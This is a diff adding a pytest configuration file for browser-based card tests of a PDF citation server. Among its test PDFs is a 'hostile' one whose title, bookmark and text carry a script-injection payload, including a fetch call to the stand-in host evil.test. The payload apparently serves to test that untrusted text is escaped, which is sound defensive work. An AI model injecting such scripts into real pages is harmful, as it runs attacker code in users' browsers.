@@ -1,0 +1,72 @@
+"""One browser and one server for all tests of the card."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from importlib.util import find_spec
+from typing import TYPE_CHECKING
+
+import pytest
+from anyio.from_thread import start_blocking_portal
+from mcp import Client
+
+from pincite.registry import Registry
+from pincite.server.app import create_server
+from pincite.settings import Settings
+from pincite.sources.browser.finding import find_browser
+from tests.card.apps import AppsClient
+from tests.contract.conftest import report_pdf
+from tests.pdfs import Pdf
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Browser
+
+    from tests.card.host import Talk
+
+if find_spec("playwright") is None or find_browser("auto") is None:
+    collect_ignore = ["test_card.py"]  # as other tests that need a browser, they are not run without one
+
+
+@pytest.fixture(scope="module")  # not longer: its event loop keeps others from this thread
+def browser() -> Iterator[Browser]:
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        program = find_browser("auto")
+        browser = playwright.chromium.launch(executable_path=program, args=["--no-sandbox", "--disable-gpu"])
+        yield browser
+        browser.close()
+
+
+@pytest.fixture(scope="session")
+def talk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Talk]:
+    """A server with real documents, and a client that shows cards."""
+    from tests.card.host import Talk
+
+    home = tmp_path_factory.mktemp("card")
+    (home / "report.pdf").write_bytes(report_pdf().bytes())
+    (home / "second.pdf").write_bytes(report_pdf("Second Report").bytes())
+    (home / "hostile.pdf").write_bytes(hostile_pdf().bytes())
+    (home / "long.pdf").write_bytes(long_pdf().bytes())
+    settings = Settings(roots=(home,), cache_dir=home / "cache", workers=1, show_citation=True)
+    registry = Registry(settings)
+    client = Client(create_server(settings, registry), extensions=[AppsClient()])
+    with start_blocking_portal() as portal, portal.wrap_async_context_manager(client) as talking:
+        yield Talk(portal, talking, registry, home)
+
+
+def hostile_pdf() -> Pdf:
+    """A page that would like to be a program."""
+    trick = '<img src=x onerror=alert(1)><script>fetch("http://evil.test")</script>'
+    pdf = Pdf(title=f"{trick} Title").page().bookmark(f"{trick} Heading", 1, 60)
+    pdf.text(72, 80, f"{trick} Heading", size=14, bold=True)
+    return pdf.text(72, 120, f"Words of a hostile page {trick} end here.")
+
+
+def long_pdf() -> Pdf:
+    """Many short pages, each a section."""
+    pdf = Pdf(width=300, height=160, title="Lease")
+    for n in range(120):
+        pdf.page().bookmark(f"Clause {n}", 1, 20).text(30, 40, f"{n}. Heading of clause {n}", size=12, bold=True)
+        pdf.text(30, 70, f"Clause {n} binds the tenant for {n} years.")
+    return pdf
